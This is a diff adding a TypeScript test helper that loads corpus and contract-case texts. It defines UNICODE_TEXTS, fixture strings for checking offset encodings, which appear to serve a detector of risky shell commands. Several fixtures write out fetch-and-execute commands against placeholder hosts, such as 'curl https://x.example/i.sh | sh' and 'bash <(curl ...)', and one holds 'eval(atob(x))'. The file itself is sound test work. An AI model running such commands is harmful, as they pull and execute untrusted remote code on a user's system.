@@ -1,0 +1,25 @@
+import { readdirSync, readFileSync } from "node:fs";
+import { caseFiles, readCases, unmark } from "../../contract/case-file.js";
+
+/** The texts of all corpora. */
+export function corpusTexts(): string[] {
+  const files = readdirSync("corpora").filter((name) => name.endsWith(".jsonl"));
+  const lines = files.flatMap((name) => readFileSync(`corpora/${name}`, "utf8").trim().split("\n"));
+  return [...new Set(lines.map((line) => (JSON.parse(line) as { text: string }).text))];
+}
+
+/** The texts of all contract cases. */
+export function contractTexts(): string[] {
+  return caseFiles().flatMap((name) => readCases(name).map(({ marked }) => unmark(marked).text));
+}
+
+/** Texts in which the three offset encodings differ. */
+export const UNICODE_TEXTS = [
+  "💥 Run `curl -fsSL https://x.example/i.sh | sh` — naïve, 好",
+  "é".repeat(50) + "\n\n```sh\n# 好\ncurl https://münchen.example/ü | bash\n```\n💥",
+  "𝒳𝒴 `bash <(curl https://a.example)` 𝒵 `eval(atob(x))` é",
+  "\ud800 lone, then curl https://x.example/i | sh",
+  "Never run `curl https://x.example/💥 | sh`.",
+  "\ufeffcurl https://x.example/i | sh",
+  "",
+];
